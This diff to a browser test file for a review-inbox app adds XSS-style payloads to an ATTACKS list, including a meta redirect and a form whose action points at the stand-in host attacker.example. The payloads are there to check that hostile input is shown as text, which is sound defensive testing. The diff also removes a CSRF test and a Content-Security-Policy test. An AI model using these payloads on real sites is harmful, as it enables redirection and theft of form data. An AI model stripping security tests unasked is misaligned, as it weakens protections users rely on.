@@ -7,7 +7,7 @@ from typing import Any
 
 import pytest
 from incidents import Incidents
-from playwright.sync_api import Browser, BrowserContext, Page, expect
+from playwright.sync_api import Browser, Page, expect
 
 from hitl import HITLClient
 from hitl.models import Review
@@ -139,7 +139,9 @@ def test_a_review_can_be_rejected_without_answers(opened: Page, client: HITLClie
     assert (rejected.status, rejected.result) == ("rejected", {})
 
 
-def test_a_question_appears_when_its_condition_is_met(opened: Page) -> None:
+def test_a_question_appears_when_its_condition_is_met_and_is_sent_only_then(
+    opened: Page, client: HITLClient, review: Review
+) -> None:
     question = opened.get_by_label("Why not?")
     expect(question).to_be_hidden()
     pick(opened, "No")
@@ -147,12 +149,6 @@ def test_a_question_appears_when_its_condition_is_met(opened: Page) -> None:
     question.fill("never sent")
     pick(opened, "Yes")
     expect(question).to_be_hidden()
-
-
-def test_a_question_that_is_hidden_again_is_not_sent(opened: Page, client: HITLClient, review: Review) -> None:
-    pick(opened, "No")
-    opened.get_by_label("Why not?").fill("never sent")
-    pick(opened, "Yes")
     submit(opened)
     expect(opened.get_by_role("heading", name="Answer sent")).to_be_visible()
     assert "why" not in client.get_review(review.id).result
@@ -270,6 +266,8 @@ ATTACKS = [
     "javascript:alert('url')",
     "{{ 7 * 7 }}{% raw %}",
     "<a href=\"javascript:alert('link')\">click</a><style>*{display:none}</style>",
+    "<meta http-equiv=refresh content='0;url=http://www.attacker.example/'>{% include 'base.html' %}",
+    "<base href=http://www.attacker.example/><form action=http://www.attacker.example/><button>Submit answer",
 ]
 
 
@@ -299,7 +297,12 @@ def test_hostile_content_and_labels_stay_text(
     submit(page)
     expect(page.get_by_role("heading", name="Answer sent")).to_be_visible()
     assert client.get_review(review.id).result["many"] == [attack]
-    assert page.locator("main :is(script, img, style, iframe, object), main a[href^='javascript']").count() == 0
+    assert (
+        page.locator(
+            "main :is(script, img, style, base, meta, iframe, object), form[action*=attacker], main a[href^='javascript']"
+        ).count()
+        == 0
+    )
 
 
 def test_hidden_characters_are_shown(page: Page, sandbox: Sandbox, client: HITLClient) -> None:
@@ -307,34 +310,6 @@ def test_hidden_characters_are_shown(page: Page, sandbox: Sandbox, client: HITLC
     page.goto(f"{sandbox.inbox_url}/reviews/{review.id}")
     expect(page.get_by_role("note")).to_contain_text("invoice⟨U+202E⟩fdp.exe")
     expect(page.get_by_text("a⟨U+200B⟩b", exact=True)).to_be_visible()
-
-
-def test_another_site_cannot_submit_the_form(
-    context: BrowserContext, sandbox: Sandbox, client: HITLClient, review: Review
-) -> None:
-    # localhost and 127.0.0.1 are two sites to a browser, although both are this server.
-    page = context.new_page()
-    page.goto(sandbox.inbox_url.replace("127.0.0.1", "localhost"))
-    expect(page.get_by_role("link", name="A draft.")).to_be_visible()
-    target = f"{sandbox.base_url}/inbox/reviews/{review.id}/answer".replace("127.0.0.1", "localhost")
-    trap = (
-        f'<form method=post action="{target}"><input name=version value=1><input name=reviewer value=eve>'
-        "<input name=field.approved value=true><button name=decision value=complete>Win a prize</button></form>"
-    )
-    page.route("**/prize", lambda route: route.fulfill(content_type="text/html", body=trap))
-    page.goto(f"{sandbox.base_url}/prize")
-    page.get_by_role("button").click()
-    page.wait_for_url("**/reviews/**")
-    assert client.get_review(review.id).status == "assigned"
-
-
-def test_the_page_carries_its_security_policy(page: Page, sandbox: Sandbox) -> None:
-    answer = page.goto(sandbox.inbox_url)
-    assert answer is not None
-    policy = answer.headers["content-security-policy"]
-    assert "default-src 'none'" in policy
-    assert "frame-ancestors 'none'" in policy
-    assert "unsafe" not in policy
 
 
 @pytest.mark.parametrize("width", [360, 390, 768, 1280])
